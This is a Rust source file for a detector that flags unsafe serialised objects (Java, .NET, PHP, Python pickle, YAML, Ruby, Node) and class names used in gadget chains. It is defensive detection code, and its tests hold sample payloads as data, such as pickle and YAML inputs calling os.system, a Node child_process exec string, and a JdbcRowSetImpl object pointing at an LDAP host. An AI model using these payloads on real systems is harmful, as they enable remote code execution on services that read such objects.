//! Serialised objects of languages whose readers run code: Java, Python, PHP, .NET, Ruby, Node, YAML, and class names
//! in JSON and XML that are only sent for that.

use std::sync::LazyLock;

use regex::bytes::Regex;

use super::{Classes, Detector, Hit, Kind, Subject, Tokens};
use crate::catalogue::DetectorInfo;
use crate::pattern;

pub(super) const DETECTOR: Detector = Detector { info: &INFO, wants, look };

const INFO: DetectorInfo = DetectorInfo {
    name: "deserialization",
    what: "a serialised object (Java, Python pickle, PHP, .NET, Ruby, YAML) or the name of a class that attacks build on",
    why: "reading such an object back runs code that its sender chose",
    example: "O:8:\"Evil\\Run\":1:{s:3:\"cmd\";s:2:\"id\";}",
};

/// Java, `java.io.ObjectStreamConstants`: magic, version 5, a type code.
const JAVA: &[u8] = b"\xac\xed\x00\x05";
/// .NET, MS-NRBF 2.6.1: the header record of `BinaryFormatter`.
const DOTNET: &[u8] = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff";

static PHP: LazyLock<Regex> =
    LazyLock::new(|| pattern(r#"(?:^|[;{}"'=\s|])[OC]:\+?\d{1,4}:"[\\\w]{1,120}":\+?\d{1,4}:\{"#));
/// Pickle of protocol 0: a global from a module that runs things, and the call.
static PICKLE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?:^|[\(\n\x80-\xff.])c(?:os|nt|posix|subprocess|builtins|__builtin__|sys|commands|pty|runpy|importlib|socket|shutil|webbrowser|operator|timeit|pickle|marshal|types|code)\r?\n\w{1,40}\r?\n",
    )
});
static PICKLE_BINARY: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?s)\x8c.(?:os|nt|posix|subprocess|builtins|__builtin__|sys|commands|pty|runpy|importlib|socket|shutil|operator|marshal|types)(?:\x94)?\x8c.\w{1,40}",
    )
});
static YAML: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"!!?python/(?:object(?:/(?:apply|new))?|name|module):[\w.]+|!!(?:javax\.script\.|java\.net\.URL|com\.sun\.|org\.\w+\.)[\w.]+|!ruby/(?:object|hash|struct|marshalable)[\w/:]*|!<!?tag:yaml\.org,2002:(?:python|java|ruby)/",
    )
});
/// Classes that gadget chains start from.
static GADGET: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(?:com\.sun\.rowset\.JdbcRowSetImpl|com\.sun\.org\.apache\.(?:xalan|bcel)[\w.$]*|org\.apache\.xalan[\w.$]*TemplatesImpl|org\.springframework\.(?:context\.support\.(?:ClassPath|FileSystem)XmlApplicationContext|beans\.factory\.[\w.]*Factory|aop\.support\.\w+|jndi\.support\.\w+)|org\.apache\.commons\.(?:collections4?\.(?:functors|keyvalue|map)\.\w+|beanutils\.BeanComparator|configuration2?\.JNDIConfiguration|dbcp2?\.\w+)|org\.codehaus\.groovy\.runtime\.(?:MethodClosure|ConvertedClosure)|com\.mchange\.v2\.c3p0\.\w+|com\.zaxxer\.hikari\.HikariConfig|ch\.qos\.logback\.core\.db\.\w+|org\.apache\.ibatis\.datasource\.jndi\.\w+|org\.apache\.tomcat\.dbcp[\w.]*|org\.apache\.shiro\.(?:jndi|realm\.jndi)[\w.]*|br\.com\.anteros\.dbcp\.\w+|javax\.(?:script\.ScriptEngineManager|management\.BadAttributeValueExpException|imageio\.ImageIO\$ContainsFilter)|java\.(?:beans\.(?:EventHandler|XMLDecoder)|lang\.ProcessBuilder|rmi\.server\.\w+|net\.URLClassLoader)|System\.(?:Windows\.Data\.ObjectDataProvider|Configuration\.Install\.AssemblyInstaller|Windows\.Markup\.XamlReader|Management\.Automation\.PSObject|Security\.(?:Principal\.WindowsIdentity|Claims\.ClaimsPrincipal)|Activities\.Presentation\.WorkflowDesigner|Diagnostics\.Process|Data\.DataSet|IO\.FileInfo|Web\.Security\.RolePrincipal)|Microsoft\.VisualStudio\.Text\.Formatting\.\w+)\b",
    )
});
/// What stands around a class name where it is meant to be read: a type key, an XML element or attribute, a type tag.
static TYPED: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?i)(?:["']?[@$]?_?(?:type|class|clazz)_?["']?\s*[:=]\s*\\?["']|<|class\s*=\s*["']|\[\s*["']|!!|^\s*["']?)\s*L?$"#,
    )
});
static RUBY: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?s)^\x04\x08.{0,400}?(?:Gem::|ERB|ActiveSupport::Deprecat|ActiveModel::Attribute|Net::(?:BufferedIO|WriteAdapter)|Kernel|Rack::)",
    )
});

fn wants(subject: &Subject<'_>) -> bool {
    subject.kind != Kind::Structured
        && (subject.tokens.any(Tokens::SERIAL) || subject.classes.any(Classes::CONTROL.and(Classes::HIGH)))
}

fn look(subject: &Subject<'_>) -> Option<Hit> {
    let bytes = subject.bytes;
    if subject.classes.any(Classes::CONTROL.and(Classes::HIGH))
        && let Some(hit) = binary(bytes)
    {
        return Some(hit);
    }
    if !subject.tokens.any(Tokens::SERIAL) || subject.kind == Kind::File {
        return None;
    }
    if let Some(found) = memchr::memmem::find(bytes, b"_$$ND_FUNC$$_") {
        return Some(Hit { confidence: 0.97, range: found..found + 13, note: "function in a Node.js object" });
    }
    let plain = PHP
        .find(bytes)
        .map(|found| Hit::at(&found, 0.93, "serialised PHP object"))
        .or_else(|| PICKLE.find(bytes).map(|found| Hit::at(&found, 0.95, "Python pickle that calls a function")))
        .or_else(|| YAML.find(bytes).map(|found| Hit::at(&found, 0.94, "YAML tag that makes an object")))
        .or_else(|| gadget(bytes))?;
    let mentioned = subject.is_mentioned(&plain.range);
    Some(if mentioned { Hit { confidence: 0.5, ..plain } } else { plain })
}

/// Formats of bytes, at the beginning of the value: they only stand there decoded from Base64 or hexadecimal digits.
fn binary(bytes: &[u8]) -> Option<Hit> {
    let hit = |confidence, note| Some(Hit { confidence, range: 0..bytes.len().min(60), note });
    if bytes.starts_with(JAVA) && matches!(bytes.get(4), Some(0x70..=0x7e)) {
        return hit(0.95, "serialised Java object");
    }
    if bytes.starts_with(DOTNET) {
        return hit(0.95, "serialised .NET object");
    }
    if RUBY.is_match(bytes) {
        return hit(0.92, "serialised Ruby object");
    }
    let pickled = matches!(bytes, [0x80, 2..=5, ..]) && bytes.last() == Some(&b'.');
    if pickled && (PICKLE.is_match(bytes) || PICKLE_BINARY.is_match(bytes)) {
        return hit(0.96, "Python pickle that calls a function");
    }
    if pickled { hit(0.84, "Python pickle") } else { None }
}

fn gadget(bytes: &[u8]) -> Option<Hit> {
    let found = GADGET.find(bytes)?;
    let before = bytes.get(found.start().saturating_sub(40)..found.start()).unwrap_or_default();
    let alone = found.start() <= 1 && found.end() + 80 >= bytes.len();
    Some(Hit::at(&found, if alone || TYPED.is_match(before) { 0.92 } else { 0.6 }, "class that attacks build on"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::examples::{must_fire, must_not_fire};

    #[test]
    fn objects_are_found() {
        must_fire(
            &DETECTOR,
            Kind::Parameter,
            &[
                "O:8:\"stdClass\":1:{s:4:\"a\";s:2:\"id\";}",
                "a:1:{i:0;O:14:\"Monolog\\Handler\":0:{}}",
                "cos\nsystem\n(S'id'\ntR.",
                "!!python/object/apply:os.system [\"id\"]",
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                "!ruby/object:Gem::Installer",
                "{\"rce\":\"_$$ND_FUNC$$_function (){require('child_process').exec('id')}()\"}",
                "com.sun.rowset.JdbcRowSetImpl",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
                "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\"}",
                "<object class=\"java.lang.ProcessBuilder\">",
            ],
        );
        for bytes in [
            b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap".as_slice(),
            b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00",
            b"\x80\x03cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.",
            b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
            b"\x04\x08o:\x15Gem::Requirement",
        ] {
            assert!(binary(bytes).is_some_and(|hit| hit.confidence >= 0.8), "{bytes:?}");
        }
    }

    #[test]
    fn ordinary_values_are_let_pass() {
        must_not_fire(
            &DETECTOR,
            Kind::Json,
            &[
                "a:2:{i:0;s:1:\"x\";i:1;s:1:\"y\";}",
                "{\"@type\":\"Product\",\"name\":\"x\"}",
                "{\"$type\":\"Shop.Models.Order, Shop\"}",
                "com.example.OrderService",
                "Caused by: java.lang.IllegalStateException at org.springframework.context.support.X",
                "We had to replace java.lang.ProcessBuilder in the job runner because of the new image",
                "café crème \u{1F600}",
                "O: 5 \"x\"",
            ],
        );
    }
}
